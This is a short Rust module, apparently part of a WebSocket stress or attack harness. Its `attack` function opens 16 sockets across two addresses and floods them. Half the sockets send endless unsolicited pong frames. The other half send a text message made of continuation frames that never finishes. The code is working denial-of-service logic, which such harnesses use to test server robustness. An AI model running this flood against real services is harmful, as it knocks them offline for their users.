use std::{convert::Infallible, io};

use tokio::io::AsyncWriteExt;

use super::foe::{Foe, frame};

/// Kinds of frames: an answer to a ping, and a text in pieces of which none is the last.
const PONG: u8 = 0x8a;
const FIRST_OF_MANY: u8 = 0x01;
const CONTINUED: u8 = 0x00;

const SOCKETS: usize = 16;
const ADDRESSES: usize = 2;
/// How many frames are written at once.
const FRAMES: usize = 1000;

pub(super) async fn attack(foe: Foe) {
    foe.times(SOCKETS, flood).await;
}

async fn flood(foe: Foe, number: usize) {
    let pongs = (Vec::new(), frame(PONG, ""));
    let continued = (frame(FIRST_OF_MANY, ""), frame(CONTINUED, ""));
    let (first, then) = if number.is_multiple_of(2) { pongs } else { continued };
    let then = then.repeat(FRAMES);
    loop {
        foe.tries(write(&foe, number / 2 % ADDRESSES, &first, &then)).await;
    }
}

/// Writes pongs that nobody asked for, or a message that never ends, until nobody takes them any more.
async fn write(foe: &Foe, address: usize, first: &[u8], then: &[u8]) -> io::Result<Infallible> {
    let mut socket = foe.socket(address).await?;
    socket.write_all(first).await?;
    loop {
        socket.write_all(then).await?;
    }
}
